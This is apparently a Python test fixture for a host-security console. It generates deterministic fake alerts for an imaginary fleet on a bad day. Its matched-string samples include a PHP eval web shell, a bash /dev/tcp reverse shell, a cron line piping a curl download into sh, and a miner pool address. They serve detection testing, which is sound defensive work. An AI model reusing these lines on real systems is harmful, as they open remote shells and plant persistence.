"""Records of an imaginary fleet as real hosts would send them: for the console's tests and its pictures.

Times are relative to `now_unix_ms`; nothing is random, so two runs show the same.
"""

import hashlib
from dataclasses import dataclass
from typing import Final

from ringfence.model.records import (
    Alert,
    AlertResponse,
    AlertSource,
    Counter,
    FileReference,
    HostEvent,
    HostEventKind,
    HostFacts,
    HostStatus,
    Lost,
    PatternMatch,
    ProcessReference,
    ProcessStatus,
    Record,
    ReleaseReference,
    RuleAction,
    RuleReference,
    Severity,
    SkippedFile,
)

MINUTE_MS: Final = 60_000
HOUR_MS: Final = 60 * MINUTE_MS

RELEASE: Final = ReleaseReference("starter", 12, hashlib.sha256(b"starter 12").hexdigest())
_AUTHOR: Final = "Ringfence authors"
_LICENCE: Final = "Apache-2.0"


def _rule(identifier: str, description: str, severity: Severity, action: RuleAction, technique: str) -> RuleReference:
    page = technique.replace(".", "/")
    return RuleReference(
        identifier=identifier,
        pack=identifier.partition("_")[0].lower(),
        author=_AUTHOR,
        description=description,
        severity=severity,
        action=action,
        technique=technique,
        reference=f"https://attack.mitre.org/techniques/{page}/"
        if technique
        else "https://www.eicar.org/download-anti-malware-testfile/",
        licence=_LICENCE,
    )


WEB_SHELL: Final = _rule(
    "WebShell_PHP_Eval_Request",
    "PHP that evaluates what a visitor sends",
    Severity.CRITICAL,
    RuleAction.BLOCK,
    "T1505.003",
)
PRELOAD: Final = _rule(
    "Rootkit_LD_PRELOAD_Hooks",
    "Shared library that hooks readdir and accept to hide itself",
    Severity.CRITICAL,
    RuleAction.BLOCK,
    "T1574.006",
)
REVERSE_SHELL: Final = _rule(
    "ReverseShell_Bash_DevTcp",
    "Shell script that opens a reverse shell over /dev/tcp",
    Severity.HIGH,
    RuleAction.BLOCK,
    "T1059.004",
)
MINER: Final = _rule(
    "Miner_Stratum_ELF", "Coin miner with stratum pool addresses", Severity.HIGH, RuleAction.BLOCK, "T1496.001"
)
CRON: Final = _rule(
    "Persistence_Cron_CurlPipe",
    "Cron entry that pipes a download into a shell",
    Severity.MEDIUM,
    RuleAction.ALERT,
    "T1053.003",
)
PACKED: Final = _rule("ELF_UPX_Packed", "ELF that is packed with UPX", Severity.LOW, RuleAction.ALERT, "T1027.002")
EICAR: Final = _rule("EICAR_Test_File", "The EICAR test file", Severity.INFORMATIONAL, RuleAction.BLOCK, "")

_EXCERPTS: Final = {
    WEB_SHELL.identifier: (
        ("$eval", b'<?php @eval($_POST["x"]); ?>', 0),
        ("$call", b"call_user_func($_REQUEST['f'], $_REQUEST['a'])", 412),
    ),
    PRELOAD.identifier: (
        ("$hook", b"readdir64\x00accept4\x00/etc/ld.so.preload\x00", 18_944),
        ("$hide", b"HIDE_PREFIX=\x00.\xde\xad\xbe\xef", 20_112),
    ),
    REVERSE_SHELL.identifier: (("$tcp", b"bash -i >& /dev/tcp/203.0.113.7/4444 0>&1", 31),),
    MINER.identifier: (("$pool", b"stratum+tcp://pool.example.net:3333\x00--donate-level", 1_204_736),),
    CRON.identifier: (("$pipe", b"*/5 * * * * curl -fsSL http://203.0.113.9/x | sh", 0),),
    PACKED.identifier: (("$upx", b"UPX!\x0d\x24\x0e\x0a", 236),),
    EICAR.identifier: (("$eicar", rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$"[:64], 0),),
}


@dataclass(frozen=True, slots=True)
class Chain:
    """Who asked: a process and its ancestors, nearest first; nobody when the file was scanned at rest."""

    process: ProcessReference | None = None
    ancestors: tuple[ProcessReference, ...] = ()


_SYSTEMD: Final = ProcessReference(1, 3, 0, "systemd", "/usr/lib/systemd/systemd", "/sbin/init")
_SSHD: Final = ProcessReference(812, 1_204, 0, "sshd", "/usr/sbin/sshd", "sshd: /usr/sbin/sshd -D [listener]")
_PHP_MASTER: Final = ProcessReference(
    941, 1_388, 0, "php-fpm8.2", "/usr/sbin/php-fpm8.2", "php-fpm: master process (/etc/php/8.2/fpm/php-fpm.conf)"
)
_PHP: Final = ProcessReference(20_417, 884_102, 33, "php-fpm8.2", "/usr/sbin/php-fpm8.2", "php-fpm: pool www")
_LOGIN: Final = ProcessReference(20_990, 901_377, 0, "sshd", "/usr/sbin/sshd", "sshd: deploy [priv]")
_SHELL: Final = ProcessReference(21_004, 901_455, 1_000, "bash", "/usr/bin/bash", "-bash")
_COPY: Final = ProcessReference(
    21_377, 904_018, 1_000, "cp", "/usr/bin/cp", "cp -v /tmp/.x/libproc.so /usr/local/lib/libproc.so"
)
_CRONTAB: Final = ProcessReference(20_431, 884_190, 33, "crontab", "/usr/bin/crontab", "crontab -")
_CRON: Final = ProcessReference(655, 1_101, 0, "cron", "/usr/sbin/cron", "/usr/sbin/cron -f")

AT_REST: Final = Chain()
BY_PHP: Final = Chain(_PHP, (_PHP_MASTER, _SYSTEMD))
BY_CRONTAB: Final = Chain(_CRONTAB, (_PHP, _PHP_MASTER, _SYSTEMD))
BY_SHELL: Final = Chain(_SHELL, (_LOGIN, _SSHD, _SYSTEMD))
BY_COPY: Final = Chain(_COPY, (_SHELL, _LOGIN, _SSHD, _SYSTEMD))
BY_CRON: Final = Chain(_CRON, (_SYSTEMD,))


def alert(
    at_unix_ms: int,
    path: str,
    *rules: RuleReference,
    response: AlertResponse = AlertResponse.BLOCKED,
    source: AlertSource = AlertSource.OPEN,
    chain: Chain = BY_PHP,
    size_bytes: int = 1_842,
    member: str = "",
) -> Alert:
    """An alert whose matched strings fit its rules."""
    matches = tuple(
        PatternMatch(rule.identifier, name, offset, len(excerpt), excerpt.hex(), member)
        for rule in rules
        for name, excerpt, offset in _EXCERPTS.get(rule.identifier, ())
    )
    sha256 = hashlib.sha256(path.rpartition("/")[2].encode()).hexdigest()
    file = FileReference(path, size_bytes, sha256, 33, 2_049, 1_310_722)
    return Alert(at_unix_ms, source, response, file, rules, matches, chain.process, chain.ancestors, RELEASE)


def facts(host_name: str, *, distribution: str = "Debian GNU/Linux 12", kernel: str = "6.1.0-32-amd64") -> HostFacts:
    """What a host says at enrolment."""
    machine_id = hashlib.sha256(host_name.encode()).hexdigest()[:32]
    return HostFacts(host_name, machine_id, kernel, distribution, "x86_64", "0.1.0")


def status(at_unix_ms: int, *, mode: str = "enforce", questions: int = 1_284_113, restarts: int = 0) -> HostStatus:
    """A healthy sensor with two scanners; `restarts` counts those of the second one."""
    mib = 1_048_576
    processes = (
        ProcessStatus("warden", 4_101, 0, "running", 9 * mib, 0),
        ProcessStatus("gate", 4_110, 990, "running", 14 * mib, 0),
        ProcessStatus("gate", 4_111, 990, "standby", 6 * mib, 0),
        ProcessStatus("watchdog", 4_112, 991, "running", 4 * mib, 0),
        ProcessStatus("scanner", 4_120, 992, "running", 38 * mib, 0),
        ProcessStatus("scanner", 4_121, 992, "running", 31 * mib, restarts),
        ProcessStatus("courier", 4_130, 993, "running", 17 * mib, 0),
    )
    counters = (
        Counter("questions", questions),
        Counter("answers_cached", questions - 41_872),
        Counter("answers_scanned", 41_806),
        Counter("answers_blocked", 23),
        Counter("deadlines_passed", 4),
        Counter("queue_depth", 0),
        Counter("scans_ahead", 18_220),
        Counter("archives_opened", 312),
        Counter("spool_bytes", 0),
    )
    return HostStatus(at_unix_ms, mode, RELEASE, ("/srv/www", "/home", "/usr/local"), processes, counters)


@dataclass(frozen=True, slots=True)
class ExampleHost:
    """A host and everything it reports, oldest first."""

    facts: HostFacts
    epoch: str
    records: tuple[Record, ...]


def example_fleet(now_unix_ms: int) -> tuple[ExampleHost, ...]:
    """Five hosts of a small company on a bad day."""
    return (
        _web_host(now_unix_ms),
        _build_host(now_unix_ms),
        _quiet_host("db-01", "5f0c1d2e3a4b5c60", now_unix_ms),
        _quiet_host("mail-01", "6a1b2c3d4e5f6071", now_unix_ms),
        _observing_host(now_unix_ms),
    )


def _web_host(now: int) -> ExampleHost:
    upload = "/srv/www/shop/uploads/2026/07"
    records: list[Record] = [
        HostEvent(now - 23 * HOUR_MS, HostEventKind.RELEASE_ACTIVATED, "starter 12", "47 rules, 94 self-tests passed"),
    ]
    for minutes_ago in (1_295, 1_290, 1_287, 1_284, 1_210, 1_204, 640, 631, 628, 622, 541, 270, 266, 120, 118, 4):
        records += [alert(now - minutes_ago * MINUTE_MS, f"{upload}/avatar-{minutes_ago}.php", WEB_SHELL)]
    records += [
        alert(
            now - 181 * MINUTE_MS,
            f"{upload}/invoice.zip",
            EICAR,
            source=AlertSource.CLOSE_WRITE,
            response=AlertResponse.FOUND_AT_REST,
            chain=AT_REST,
            size_bytes=308,
            member="invoice/readme.com",
        ),
        SkippedFile(
            now - 2 * HOUR_MS, "/srv/www/shop/var/cache/pool-1.bin", 734_003_200, "deadline_passed", will_rescan=True
        ),
        SkippedFile(
            now - 2 * HOUR_MS,
            "/srv/www/shop/import/catalogue.tar.zst",
            2_147_483_648,
            "file_too_large",
            will_rescan=True,
        ),
        HostEvent(
            now - 95 * MINUTE_MS,
            HostEventKind.PROCESS_DIED,
            "scanner",
            "killed by the warden: no answer within 2000 ms; replaced in 41 ms",
        ),
        alert(
            now - 26 * MINUTE_MS,
            "/var/spool/cron/crontabs/www-data",
            CRON,
            response=AlertResponse.OBSERVED,
            source=AlertSource.CLOSE_WRITE,
            chain=BY_CRONTAB,
            size_bytes=61,
        ),
        alert(now - 2 * MINUTE_MS, f"{upload}/.thumb.php", WEB_SHELL, REVERSE_SHELL),
        status(now, restarts=1),
    ]
    return ExampleHost(facts("web-01.example.net"), "1a2b3c4d5e6f7081", _in_order(records))


def _build_host(now: int) -> ExampleHost:
    observed = AlertResponse.OBSERVED
    records: list[Record] = [
        alert(
            now - 14 * HOUR_MS,
            "/home/deploy/.cache/xmr/worker",
            MINER,
            PACKED,
            source=AlertSource.EXEC,
            chain=BY_SHELL,
            size_bytes=6_203_392,
        ),
        HostEvent(
            now - 13 * HOUR_MS + 10 * MINUTE_MS,
            HostEventKind.BREAKER_RULE,
            "ELF_UPX_Packed",
            "set to observe: 12 hits within 60 s in 3 directories",
        ),
        alert(
            now - 12 * HOUR_MS,
            "/usr/bin/upx-ucl",
            PACKED,
            response=AlertResponse.SPARED_VITAL,
            source=AlertSource.EXEC,
            chain=BY_SHELL,
            size_bytes=1_048_832,
        ),
        Lost(now - 5 * HOUR_MS, "gate_questions", 37),
        alert(now - 11 * MINUTE_MS, "/usr/local/lib/libproc.so", PRELOAD, chain=BY_COPY, size_bytes=24_576),
        status(now, questions=9_402_117),
    ]
    for number, minutes_ago in enumerate((780, 779, 777, 776, 771, 402, 396, 88)):
        path = f"/home/deploy/tools/bin/helper-{number}"
        at_unix_ms = now - minutes_ago * MINUTE_MS
        records += [
            alert(
                at_unix_ms, path, PACKED, response=observed, source=AlertSource.EXEC, chain=BY_SHELL, size_bytes=812_544
            )
        ]
    return ExampleHost(facts("build-02.example.net"), "2b3c4d5e6f708192", _in_order(records))


def _quiet_host(name: str, epoch: str, now: int) -> ExampleHost:
    return ExampleHost(facts(f"{name}.example.net"), epoch, (status(now, questions=402_117),))


def _observing_host(now: int) -> ExampleHost:
    records: list[Record] = [
        HostEvent(
            now - 40 * MINUTE_MS, HostEventKind.MODE_CHANGED, "observe", "by the operator: first week of the roll-out"
        ),
        status(now, mode="observe", questions=77_015),
    ]
    for minutes_ago in (933, 873, 813, 33):
        at_unix_ms = now - minutes_ago * MINUTE_MS
        records += [
            alert(
                at_unix_ms,
                "/opt/vendor/agent/update.sh",
                REVERSE_SHELL,
                response=AlertResponse.OBSERVED,
                source=AlertSource.EXEC,
                chain=BY_CRON,
                size_bytes=233,
            )
        ]
    known = facts("files-03.example.net", distribution="Ubuntu 24.04 LTS", kernel="6.8.0-60-generic")
    return ExampleHost(known, "3c4d5e6f708192a3", _in_order(records))


def _in_order(records: list[Record]) -> tuple[Record, ...]:
    return tuple(sorted(records, key=lambda record: record.at_unix_ms))
